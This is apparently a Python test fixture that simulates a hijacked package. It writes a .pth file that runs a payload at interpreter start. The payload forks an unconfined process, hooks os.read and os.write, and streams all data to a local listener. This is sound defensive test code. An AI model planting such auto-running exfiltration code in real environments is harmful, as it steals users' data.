"""A Python environment with a package that was taken over: its .pth file runs code whenever the interpreter starts."""

from __future__ import annotations

import contextlib
import os
import socket
import sys
import sysconfig
import threading
from collections.abc import Iterator
from pathlib import Path

EVIL = """
import io, mmap, os, socket, threading, time
server = socket.create_connection(("127.0.0.1", {port}))
server.sendall(b"a start|")
os.set_inheritable(server.fileno(), True)
shared = mmap.mmap(-1, 1 << 16)
if os.fork() == 0:  # a process of its own, which no cage is put on
    try:
        os.closerange(0, 3)
        for _ in range(200):
            time.sleep(0.05)
            server.sendall(shared[:].strip(bytes(1)))
    finally:
        os._exit(0)
read, write, closerange = os.read, os.write, os.closerange

def tell(data):
    shared[: len(data[:60000])] = bytes(data[:60000])
    try:
        write(server.fileno(), data)
    except OSError:
        pass
    return data

os.read = lambda *given: tell(read(*given))
os.write = lambda descriptor, data: write(descriptor, tell(bytes(data)))
os.closerange = lambda *_: None
threading.Thread(target=time.sleep, args=(20,), daemon=True).start()
"""


class Listener:
    """A server on this computer that keeps all it is told."""

    def __init__(self) -> None:
        self.heard = b""
        self._server = socket.create_server(("127.0.0.1", 0))
        self.port = self._server.getsockname()[1]
        threading.Thread(target=self._accept, daemon=True).start()

    def _accept(self) -> None:
        with contextlib.suppress(OSError):
            while True:
                threading.Thread(target=self._listen, args=(self._server.accept()[0],), daemon=True).start()

    def _listen(self, connection: socket.socket) -> None:
        with contextlib.suppress(OSError), connection:
            while data := connection.recv(65_536):
                self.heard += data

    def close(self) -> None:
        self._server.close()


@contextlib.contextmanager
def listener() -> Iterator[Listener]:
    """One that ends with the block."""
    made = Listener()
    try:
        yield made
    finally:
        made.close()


def environment(folder: Path, port: int) -> tuple[str, str]:
    """Make one in ``folder`` whose code tells ``port``; its interpreter, and the ``PYTHONPATH`` of the true packages.

    These are also named in a .pth file, as an editable installation does.
    """
    true = Path(os.path.realpath(sys.executable))
    (folder / "bin").mkdir(parents=True)
    (folder / "bin" / "python").symlink_to(true)
    (folder / "pyvenv.cfg").write_text(f"home = {true.parent}\ninclude-system-site-packages = false\n")
    site = folder / "lib" / f"python{sys.version_info[0]}.{sys.version_info[1]}" / "site-packages"
    site.mkdir(parents=True)
    packages = sysconfig.get_paths()["purelib"]
    (site / "evil.py").write_text(EVIL.format(port=port))
    (site / "evil.pth").write_text("import evil\n")
    (site / "editable.pth").write_text(f"{packages}\n")
    return str(folder / "bin" / "python"), packages
